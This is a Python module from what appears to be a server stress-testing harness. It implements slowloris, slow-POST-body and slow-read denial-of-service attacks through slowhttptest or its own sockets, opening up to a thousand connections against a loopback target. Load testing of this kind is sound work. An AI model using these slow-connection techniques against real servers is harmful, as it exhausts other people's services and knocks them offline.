"""Slow clients, a thousand at once: by slowhttptest where it is installed, else by sockets of this program's own."""

from __future__ import annotations

import re
import shutil
import subprocess

from attack import Attack, Target
from holding import hold
from sockets import LOOPBACK

CONNECTIONS = 1_000
A_SECOND = 500
"""So many of them are opened a second."""
COLOURS = re.compile(r"\x1b\[[0-9;]*[A-Za-z]")


def read_status(said: str) -> str:
    """What slowhttptest tells of its connections, every five seconds, and in the end of itself."""
    said = COLOURS.sub("", said)
    closed = re.findall(r"closed: *(\d+)", said)
    ending = re.search(r"Exit status:\s*(.+)", said)
    if not closed and not ending:
        raise OSError(f"slowhttptest did not say what became of its connections: {said[-300:]!r}")
    # It looks every five seconds: one that is over before may not have looked.
    told = "it did not look at them"
    if closed:
        told = f"{int(closed[-1]):,} had been ended by the server when it last looked"
    return told + (f" ({ending[1].strip().lower()})" if ending else "")


def slowhttptest(target: Target, path: str, options: str) -> str | None:
    """None where it is not installed."""
    if not shutil.which("slowhttptest"):
        return None
    count = min(CONNECTIONS, target.most)
    seconds = max(1, round(target.seconds))
    command = ["setpriv", "--pdeathsig", "TERM", "slowhttptest", *options.split(), "-l", str(seconds), "-c", str(count),
               "-r", str(A_SECOND), "-p", "3", "-u", f"http://{LOOPBACK}:{target.port}{path}"]
    done = subprocess.run(command, capture_output=True, text=True, errors="replace", stdin=subprocess.DEVNULL,
                          timeout=seconds + 30)
    return f"{count:,} connections of slowhttptest's, {read_status(done.stdout)}"


def own(target: Target, head: str, **how) -> str:
    return hold(target, CONNECTIONS, [head.encode()], over=min(CONNECTIONS / A_SECOND, target.seconds / 2), **how)


def slowloris(target: Target) -> str:
    return slowhttptest(target, "/plain", "-H -i 1 -t GET -x 24") or own(
        target, "GET /plain HTTP/1.1\r\nHost: a\r\n", drip=b"X-Slow: abcdefgh\r\n")


def slow_body(target: Target) -> str:
    return slowhttptest(target, "/echo", "-B -i 1 -s 8192 -t POST -x 10") or own(
        target, "POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 8192\r\n\r\n", drip=b"&abcd=efgh")


def slow_read(target: Target, path: str) -> str:
    return slowhttptest(target, path, "-X -w 512 -y 1024 -n 5 -z 32 -k 3") or own(
        target, f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n", interval=5.0, takes=32, receive_buffer=1024)


def slow_read_made(target: Target) -> str:
    return slow_read(target, "/bytes/1000000")


def slow_read_shared(target: Target) -> str:
    return slow_read(target, "/shared")


def slow_read_stream(target: Target) -> str:
    return slow_read(target, "/stream/1")


ATTACKS = [
    Attack("slowloris", "heads that never end, a field a second", slowloris),
    Attack("slow-body", "bodies of 8 KB, ten bytes a second", slow_body, "streams"),
    Attack("slow-read", "readers of 32 bytes each five seconds, of a megabyte that the handler makes for each of them: "
           "a thousand of these are 1,000 MB, whatever the server does", slow_read_made, "streams"),
    Attack("slow-read-shared", "the same of 8 MB that all of them share: what is more is the server's",
           slow_read_shared, "streams"),
    Attack("slow-read-stream", "the same of a megabyte that is made while it is sent", slow_read_stream, "streams"),
]
